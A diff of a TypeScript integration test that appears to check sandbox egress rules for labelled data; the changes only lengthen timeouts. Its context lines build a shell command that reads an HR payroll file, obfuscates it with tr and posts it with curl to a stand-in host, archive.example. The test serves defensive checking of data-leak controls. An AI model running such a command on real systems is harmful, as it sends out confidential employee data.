@@ -59,7 +59,7 @@ export async function labelled(check: Checks, made: (instance: Instance) => void
     const first = await instance.cli(['onboard', '--yes', '--name', 'labelled', '--blueprint', 'labelled', '--workspace', project('one')], { timeoutMs: 240_000 });
     const second = await instance.cli(['onboard', '--yes', '--name', 'unlabelled', '--blueprint', 'unlabelled', '--workspace', project('two')], { timeoutMs: 240_000 });
     if (first.code !== 0 || second.code !== 0) throw new Error(`the instance does not start: ${first.out}${first.err}${second.out}${second.err}`);
-    const send = (sandbox: string, script: string) => instance.cli([sandbox, 'exec', '--', '/bin/sh', '-c', script], { timeoutMs: 60_000 });
+    const send = (sandbox: string, script: string) => instance.cli([sandbox, 'exec', '--', '/bin/sh', '-c', script], { timeoutMs: 180_000 });
     const read = 'cat /workspace/hr/payroll.csv | tr a-z n-za-m';
     const post = (host: string): string => `${read} | curl -sS -m 20 --data-binary @- http://${host}:${web.port}/notes`;
 
@@ -78,7 +78,7 @@ export async function labelled(check: Checks, made: (instance: Instance) => void
     const asked = await until('a question', async () => {
       const events = await instance.json<readonly unknown[]>(['audit', 'search', '--sandbox', 'labelled', '--limit', '400', 'labels.egress']);
       return events.length > 0 ? events : undefined;
-    }, 10_000).catch(() => undefined);
+    }).catch(() => undefined);
     check.that('it is on record with the rule `labels.egress`', asked !== undefined);
     const accepted = await send('labelled', post('archive.example'));
     check.that('a rule that accepts restricted data lets it through', web.heard().slice(before).includes(encoded), accepted.out + accepted.err);
